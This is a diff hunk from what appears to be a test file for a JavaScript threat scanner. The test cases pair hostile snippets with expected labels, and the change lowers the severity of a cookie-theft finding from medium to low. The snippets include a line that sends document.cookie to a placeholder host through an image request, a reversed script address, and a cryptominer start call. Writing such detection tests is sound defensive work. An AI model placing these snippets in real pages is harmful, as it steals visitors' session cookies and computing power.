@@ -98,7 +98,7 @@ const cases: Record<string, [string, string[]]> = {
   'an address backwards': [`var a='sj.a/elpmaxe.x//:sptth'`, ['medium veiled-address']],
   'cookies in the address of an image': [
     `new Image().src='https://x.example/?c='+document.cookie`,
-    ['medium cookies-to-host'],
+    ['low cookies-to-host'],
   ],
   'a miner of a name nobody knows': [
     `var m=new Abc.Anonymous('780c65e12f7eaebadd433b1eb488f45a');m.start()`,
